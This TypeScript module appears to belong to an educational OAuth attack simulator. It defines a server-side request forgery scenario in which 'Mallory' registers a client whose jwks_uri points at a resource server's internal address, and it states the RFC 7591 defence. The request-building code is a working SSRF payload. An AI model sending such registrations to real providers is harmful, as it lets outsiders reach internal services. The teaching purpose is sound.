import type { HttpRequest } from '@/lib/oauth/http'
import type { Attack, GrantSlug, Script, Variant } from './attack'
import type { AttackTools } from './tools'

/** An address that only the provider's own servers can reach. */
const insideOf = ({ origins }: AttackTools) => `${origins.resource}/internal/status`

/** Metadata of an app for this grant (RFC 7591, section 2). */
const APPS: Partial<Record<GrantSlug, (callback: string) => Record<string, unknown>>> = {
  'authorization-code': (callback) => ({
    ...{ redirect_uris: [callback], grant_types: ['authorization_code'] },
    token_endpoint_auth_method: 'private_key_jwt',
  }),
  'authorization-code-browser': (callback) => ({
    ...{ redirect_uris: [callback], grant_types: ['authorization_code'] },
    token_endpoint_auth_method: 'none',
  }),
  implicit: (callback) => ({
    ...{ redirect_uris: [callback], grant_types: ['implicit'], response_types: ['token'] },
    token_endpoint_auth_method: 'none',
  }),
  password: () => ({ grant_types: ['password'], token_endpoint_auth_method: 'private_key_jwt' }),
  'client-credentials': () => ({ grant_types: ['client_credentials'], token_endpoint_auth_method: 'private_key_jwt' }),
}

function registers(tools: AttackTools, grant: GrantSlug): HttpRequest {
  const { origins } = tools
  const metadata = APPS[grant]?.(`${origins.attacker}/callback`) ?? {}
  return {
    method: 'POST',
    url: `${origins.issuer}/register`,
    headers: [
      ['accept', 'application/json'],
      ['content-type', 'application/json'],
    ],
    body: JSON.stringify({ client_name: 'Key Collector', ...metadata, jwks_uri: insideOf(tools) }),
  }
}

const scriptFor = (grant: GrantSlug): Script => [
  {
    step: 'knock-from-outside',
    phase: 'trap',
    from: 'attacker',
    to: 'resource-server',
    channel: 'back',
    line: 'GET /internal/status',
    move: {
      with: 'tool',
      send: (tools) => ({ method: 'GET', url: insideOf(tools), headers: [['accept', 'application/json']], body: null }),
    },
    expects: ['refusal'],
    cites: ['rfc7591-5'],
    words: {
      title: 'Mallory knocks from outside',
      caption: 'The drive has an address for its neighbours, without any token. It answers calls from inside only.',
    },
    reply: {
      title: 'Nobody from outside gets in',
      caption: 'So far the fence holds. Inside it stands the auth server, and that one takes requests from anybody.',
    },
  },
  {
    step: 'registration-with-address',
    phase: 'strike',
    from: 'attacker',
    to: 'authorization-server',
    channel: 'back',
    line: 'POST /register',
    move: { with: 'tool', send: (tools) => registers(tools, grant) },
    expects: ['confirmation', 'refusal'],
    cites: ['rfc7591-2', 'rfc7591-5'],
    words: {
      title: 'Mallory registers an inner address',
      caption: 'Her app’s keys, she says, are to be fetched. The jwks_uri is the drive’s inner address.',
    },
    reply: {
      title: 'Look at what the server did',
      caption:
        'Either it refused to fetch for strangers, or it went inside for her: then the answer quotes what it found there.',
    },
  },
]

const against = (grant: GrantSlug): Variant => ({
  cases: [{ id: 'usual', title: 'jwks_uri points inside', script: scriptFor(grant) }],
})

/** RFC 7591, section 5. */
export const registrationSsrf: Attack = {
  id: 'A-40',
  slug: 'registration-ssrf',
  tier: 1,
  title: 'The server fetches for a stranger',
  summary:
    'Mallory registers an app whose keys are to be fetched from an inner address, and the server goes there in her place.',
  attacker: 'Anybody, where clients may register themselves.',
  defence: 'The server takes keys by value only, and fetches no address that a stranger names.',
  cites: ['rfc7591-5', 'rfc7591-2'],
  oracle: 'reaches-inside',
  switches: { fetchClientUris: true },
  needs: [],
  on: {
    'authorization-code': against('authorization-code'),
    'authorization-code-browser': against('authorization-code-browser'),
    implicit: against('implicit'),
    password: against('password'),
    'client-credentials': against('client-credentials'),
  },
}
